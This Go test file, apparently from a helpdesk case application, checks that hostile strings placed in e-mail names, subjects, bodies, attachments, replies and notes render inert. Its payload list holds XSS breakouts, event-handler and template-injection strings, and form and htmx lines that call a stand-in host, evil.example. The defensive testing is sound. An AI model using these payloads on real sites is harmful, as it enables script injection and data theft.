package workspace_test

import (
	_ "embed"
	"fmt"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"lotse/internal/intake"
	"lotse/internal/platform/db/dbtest"
	"lotse/internal/platform/markup"
)

//go:embed testdata/xss.txt
var xss string

// hostile are strings that broke the pages of others.
func hostile() []string {
	return append(strings.Split(strings.TrimSpace(xss), "\n"),
		`</textarea><script>alert(1)</script>`,
		`</title><script>alert(1)</script>`,
		`</details></li></ol></main><h1>taken over</h1>`,
		`<form action="https://evil.example"><input name="reply"><button>Senden`,
		`<img src="/signout" data-cid="x" alt="--><script>alert(1)</script>">`,
		`<a href="&#106;avascript:alert(1)">hier</a>`,
		`<div id="case-timeline" hx-get="https://evil.example" hx-trigger="load" style="position:fixed;inset:0">`,
		`<blockquote><details open ontoggle=alert(1)></blockquote>x`,
		`{{constructor.constructor('alert(1)')()}}`,
		"<scr\x00ipt>alert(1)</scr\x00ipt>\u202egnp.exe",
	)
}

// TestHostileStringsAreInert puts each string everywhere a customer can put one.
// Every page of it must keep its structure and load nothing (checkPolicy runs
// with every page that is opened).
func TestHostileStringsAreInert(t *testing.T) {
	w := newWorld(t, dbtest.Open(t, dbtest.URL(t, "sqlite")))
	list := hostile()
	if len(list) < 30 {
		t.Fatalf("only %d strings", len(list))
	}
	for i, s := range list {
		c := w.open(letter{
			From: fmt.Sprintf("k%d@post.example", i), Name: s, Subject: s, Text: s, HTML: "<p>Hallo</p>" + s,
			Parts: []intake.Part{{Name: s, ContentType: "text/html", Content: []byte(s)}, {Name: s + ".png", ContentType: "image/png", ContentID: "x", Inline: true, Content: []byte("png")}},
		})
		w.mia.goes("/cases/"+c.Number+"/reply", "reply", s)
		w.mia.goes("/cases/"+c.Number+"/note", "note", s)
		checkIntact(t, w.mia.get("/cases/"+c.Number), s)
		doc := w.mia.page(w.mia.post("/cases/"+c.Number+"/reply", "reply", s, "next", "nonsense"), 422)
		checkIntact(t, doc, s)
		if got, want := strings.TrimPrefix(doc.Find("#f-reply").Text(), "\n"), s; strings.TrimSpace(got) != strings.TrimSpace(strings.ReplaceAll(want, "\x00", "\uFFFD")) {
			t.Errorf("typed %q, kept %q", want, got)
		}
		if got := doc.Find("h1").Text(); got != markup.CleanLine(s, 500) {
			t.Errorf("the subject %q reads %q", s, got)
		}
		if doc.Find(".message[data-from=customer] .mail").Length() != 1 {
			t.Errorf("%q broke the message", s)
		}
	}
	first := w.mia.get("/cases?view=all")
	older, _ := first.Find("[rel=next]").Attr("href")
	second := w.mia.get(older)
	checkIntact(t, first, "the list")
	checkIntact(t, second, "the list")
	if n := first.Find(".case-row").Length() + second.Find(".case-row").Length(); n != len(list) {
		t.Errorf("the list shows %d of %d", n, len(list))
	}
}

// checkIntact makes sure that foreign text added no structure of ours.
func checkIntact(t *testing.T, doc *goquery.Document, s string) {
	t.Helper()
	for _, selector := range []string{"h1", "main", "title", "header.shell-header", "#live"} {
		if n := doc.Find(selector).Length(); n != 1 {
			t.Errorf("%q makes %d × %s", s, n, selector)
		}
	}
	doc.Find(".mail").Each(func(_ int, mail *goquery.Selection) {
		if n := mail.Find("form, input, button, script, style, link, meta, [id], [class]:not(.mail-image, .fold), [hx-get], [sse-connect], main, nav, h1, h2, h3").Length(); n > 0 {
			html, _ := mail.Html()
			t.Errorf("%q leaves %d elements it must not: %s", s, n, html)
		}
		mail.Find("a").Each(func(_ int, a *goquery.Selection) {
			if rel, _ := a.Attr("rel"); !strings.Contains(rel, "noopener") {
				t.Errorf("%q makes a link that knows its opener", s)
			}
		})
	})
	doc.Find("form").Each(func(_ int, form *goquery.Selection) {
		if action, _ := form.Attr("action"); !strings.HasPrefix(action, "/") || strings.HasPrefix(action, "//") {
			t.Errorf("%q makes a form to %q", s, action)
		}
	})
	seen := map[string]bool{}
	doc.Find("[id]").Each(func(_ int, e *goquery.Selection) {
		id, _ := e.Attr("id")
		if seen[id] {
			t.Errorf("%q: the id %q is there twice", s, id)
		}
		seen[id] = true
	})
}
